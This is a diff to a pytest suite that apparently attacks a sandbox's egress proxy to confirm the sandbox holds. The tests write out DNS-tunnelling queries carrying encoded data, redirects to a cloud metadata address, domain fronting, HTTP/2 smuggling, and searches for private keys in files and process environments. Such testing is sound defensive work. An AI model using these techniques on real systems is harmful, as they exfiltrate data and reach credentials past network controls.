@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import asyncio
 import json
+import shlex
+import socket
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -11,10 +13,11 @@ from typing import Any
 import pytest
 
 from composer.contract import SandboxLimits
-from composer.errors import SandboxError, SandboxStartError
-from envs.egress import client, names
-from tests.integration.envs.egress.upstream import CHUNKED, Upstream
-from tests.integration.envs.egress.world import DENIED, SECRET, egress, lines, raw, status
+from envs.egress import names
+from tests.integration.envs.egress.upstream import Upstream
+from tests.integration.envs.egress.world import lines, raw, status
+
+pytestmark = pytest.mark.attacks
 
 # --- No way around ----------------------------------------------------------------------------------------------------
 
@@ -102,7 +105,7 @@ def test_services_of_the_host_cannot_be_reached(sh: Callable) -> None:
             server.accept()
 
 
-def test_other_ports_protocols_and_families_lead_nowhere(sh: Callable) -> None:
+def test_other_ports_protocols_and_families_lead_nowhere(kind: str, sh: Callable) -> None:
     program = """
 import socket
 def attempt(name, act):
@@ -128,8 +131,12 @@ attempt("bind", lambda: socket.create_server(("127.0.0.1", 443)))
     refused = "ConnectionRefusedError"
     assert [found[name] for name in ("ssh", "alt", "udp", "quic", "dns")] == [refused] * 5
     assert found["v6"] == "OSError"
-    assert [found[name] for name in ("raw", "ping", "bind")] == ["PermissionError"] * 3
-    assert found["packet"] == "OSError"
+    assert found["raw"] == "PermissionError"
+    assert found["packet"] in ("OSError", "PermissionError")
+    # Docker lets everybody have ports below 1024, of which the one that matters is taken, and ping, which stays inside.
+    assert found["bind"] in (("PermissionError",) if kind == "bubblewrap" else ("OSError",))
+    if kind == "bubblewrap":
+        assert found["ping"] == "PermissionError"
 
 
 def test_the_route_cannot_be_changed_from_inside(sh: Callable) -> None:
@@ -153,3 +160,133 @@ def test_uploads_are_bounded(sh: Callable, upstream: Upstream, log: Path) -> Non
     assert [line["reason"] for line in lines(log)[-3:]] == ["allowed", "limit", "limit"]
 
 
+
+
+def test_names_with_data_in_them_ask_no_resolver(sh: Callable, log: Path) -> None:
+    """DNS tunnels: whatever kind of question it is, and over TCP too, the answer is made on the spot."""
+    program = """
+import socket, struct
+def ask(name, kind, tcp):
+    query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"".join(
+        bytes([len(part)]) + part.encode() for part in name.split(".")) + bytes([0]) + struct.pack("!HH", kind, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(3)
+    s.connect(("127.0.0.53", 53))
+    s.sendall((struct.pack("!H", len(query)) if tcp else b"") + query)
+    answer = s.recv(2000)[2 if tcp else 0:]
+    return struct.unpack("!H", answer[6:8])[0], answer[3] & 15
+for tcp in (False, True):
+    for kind in (1, 16, 28, 255, 10):
+        print(*ask("c2VjcmV0IGRhdGE.tunnel.elsewhere.test", kind, tcp))
+print(*ask("a" * 63 + "." + "b" * 63 + ".elsewhere.test", 1, False))
+"""
+    found = sh(f"python3 - <<'END'\n{program}\nEND")[1].split("\n")[:-1]
+    assert found == ["1 0", "0 0", "0 0", "0 0", "0 0"] * 2 + ["1 0"], found
+    # A real name, which a resolver would know, has the made-up address too: nobody was asked.
+    assert sh("getent ahostsv4 dns.google")[1].split()[0] == names.address_of("dns.google")
+
+
+def test_a_redirect_does_not_lead_to_a_denied_host(sh: Callable, upstream: Upstream, log: Path) -> None:
+    upstream.locations["open.test/away"] = "https://elsewhere.test/data"
+    assert status(sh, "-L https://open.test/away") == "403"
+    assert upstream.arrived() == ["open.test/away"]
+    assert [line["verdict"] for line in lines(log)[-2:]] == ["allowed", "denied"]
+    upstream.locations["open.test/home"] = "http://169.254.169.254/latest/meta-data/"
+    assert status(sh, "-L https://open.test/home") == "403"
+    assert upstream.arrived() == ["open.test/home"]
+
+
+def test_http_2_is_not_spoken(sh: Callable, upstream: Upstream) -> None:
+    """Neither agreed on in the handshake nor assumed: one connection would carry requests that are not looked at."""
+    program = """
+import socket, ssl
+context = ssl.create_default_context(); context.set_alpn_protocols(["h2", "http/1.1"])
+c = context.wrap_socket(socket.create_connection(("open.test", 443), 5), server_hostname="open.test")
+print(c.selected_alpn_protocol())
+c.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0]))
+c.settimeout(3)
+try:
+    print(c.recv(100)[:12])
+except OSError as e:
+    print(type(e).__name__)
+"""
+    agreed, answer = sh(f"python3 - <<'END'\n{program}\nEND")[1].splitlines()
+    assert agreed in ("None", "http/1.1")
+    assert "200" not in answer and "\\x00\\x00" not in answer, answer
+    assert upstream.arrived() == []
+
+
+@pytest.mark.parametrize("what", ["one header", "many headers", "target"])
+def test_headers_and_targets_are_bounded(sh: Callable, upstream: Upstream, log: Path, what: str) -> None:
+    """Servers hang up on longer ones, which would look as if they had failed."""
+    arguments = {
+        "one header": "-H \"X-Data: $(head -c 17000 /dev/zero | tr '\\0' a)\" https://open.test/",
+        "many headers": "$(for i in $(seq 600); do printf -- '-H X-%d:aaaaaaaaaaaaaaaaaaaaaaaa ' $i; done) https://open.test/",
+        "target": "\"https://open.test/$(head -c 9000 /dev/zero | tr '\\0' a)\"",
+    }[what]
+    assert status(sh, arguments).endswith("000")
+    assert upstream.arrived() == []
+    assert lines(log)[-1]["reason"] == "limit"
+    # That was no outage: the sandbox goes on.
+    assert status(sh, "https://open.test/") == "200"
+
+
+def test_what_goes_out_to_an_allowed_host_is_in_the_log(sh: Callable, upstream: Upstream, log: Path) -> None:
+    """A host that is allowed can be told things: the log has the path in full, and how much went in headers and body."""
+    secret = "the-hidden-answer-is-42"
+    assert status(sh, f"https://open.test/upload/{secret}") == "200"
+    plain = lines(log)[-1]
+    assert secret in plain["url"]
+    status(sh, f"-H {shlex.quote('X-Data: ' + 'x' * 5000)} https://open.test/")
+    assert lines(log)[-1]["header_bytes"] >= plain["header_bytes"] + 5000
+    status(sh, f"-d {'y' * 700} https://api.test/v1/x")
+    assert lines(log)[-1]["bytes_sent"] == 700
+
+
+def test_the_roots_key_and_the_proxys_files_are_out_of_reach(backend: Any, sh: Callable) -> None:
+    assert backend.proxy is not None
+    key = backend.proxy.folder / "mitmproxy-ca.pem"
+    assert "PRIVATE KEY" in key.read_text() and key.stat().st_mode & 0o077 == 0
+    assert sh(f"cat {key}")[0] != 0
+    assert sh("grep -rsl 'PRIVATE KEY' /etc /home /tmp /run /opt /var")[1] == ""
+    program = "import os; print(any('PRIVATE KEY' in open(f'/proc/{p}/environ', errors='replace').read() for p in os.listdir('/proc') if p.isdecimal() and os.access(f'/proc/{p}/environ', os.R_OK)))"
+    assert sh(f'python3 -c "{program}"')[1].strip() == "False"
+
+
+def test_the_proxys_own_port_is_not_there(backend: Any, sh: Callable) -> None:
+    """mitmproxy listens on the host's loopback, which is not the sandbox's."""
+    import psutil
+
+    ports = [c.laddr.port for c in psutil.Process(backend.proxy.pid).net_connections("tcp") if c.status == "LISTEN"]
+    assert ports
+    for port in ports:
+        assert "(7)" in sh(f"curl -sS -m 3 http://127.0.0.1:{port}/ 2>&1")[1]
+        assert "(7)" in sh(f"curl -sS -m 3 -x http://127.0.0.1:{port} http://open.test/ 2>&1")[1]
+
+
+def test_a_handshake_cannot_name_another_host(sh: Callable, upstream: Upstream, log: Path) -> None:
+    """Domain fronting: the name in the handshake is allowed, the one in the request is not, or there is none."""
+    front = f"""
+import socket, ssl
+def ask(sni, host, where):
+    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+    c = context.wrap_socket(socket.create_connection((where, 443), 5), server_hostname=sni)
+    c.sendall(f"GET / HTTP/1.1\\r\\nHost: {{host}}\\r\\nConnection: close\\r\\n\\r\\n".encode())
+    print(c.recv(100).split()[1].decode())
+ask("open.test", "elsewhere.test", "open.test")
+ask("elsewhere.test", "open.test", "open.test")
+ask("a.sub.test", "open.test", "open.test")
+ask(None, "open.test", "open.test")
+"""
+    assert sh(f"python3 - <<'END'\n{front}\nEND")[1].split() == ["403"] * 4
+    assert upstream.arrived() == []
+    assert {line["reason"] for line in lines(log)[-4:]} == {"host"}
+
+
+def test_a_host_that_is_no_name_is_denied_and_breaks_nothing(sh: Callable, upstream: Upstream, log: Path) -> None:
+    """What no resolver takes (a label of 64 letters) must not make a rule's code fail open."""
+    host = "x" * 64 + ".sub.test"
+    where = names.address_of(host)
+    answer = raw(sh, f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n", 80, where)
+    assert "403" in answer.splitlines()[0], answer
+    assert lines(log)[-1]["verdict"] == "denied"
+    assert upstream.arrived() == []
